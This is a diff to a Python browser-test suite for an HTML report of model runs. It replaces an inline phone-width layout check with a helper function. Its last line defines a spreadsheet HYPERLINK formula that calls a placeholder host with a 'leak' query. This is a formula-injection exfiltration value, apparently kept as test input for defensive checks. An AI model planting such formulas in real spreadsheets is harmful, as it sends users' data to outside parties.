@@ -32,7 +32,7 @@ import numpy as np
 import pandas as pd
 import pytest
 from axe_playwright_python.sync_playwright import Axe
-from html_browser import check_ranked_claims, loaded, opened
+from html_browser import check_fits_a_phone, check_ranked_claims, loaded, opened
 from html_report_runs import (
     MARKER,
     SUBJECTS,
@@ -1268,12 +1268,7 @@ def test_the_tiny_reasoners_traces_are_shaded_by_its_own_tokenizer(browser: Brow
         assert page.eval_on_selector_all("#question-view .trace span[class^=s]", "spans => spans.length") > 0
         assert page.locator("#question-view .trace .eot").count() == 1
     context.close()
-    phone = browser.new_context(offline=True, viewport={"width": 390, "height": 844})
-    with opened(phone, html.as_uri(), html) as page:
-        for tab in ("leaderboard", "figures", "analyses", "questions", "compare"):
-            page.click(f"button[data-tab={tab}]")
-            assert page.evaluate("document.documentElement.scrollWidth") <= 390, tab
-    phone.close()
+    check_fits_a_phone(browser, html)
 
 
 FORMULA = '=HYPERLINK("http://example.invalid/?leak")'
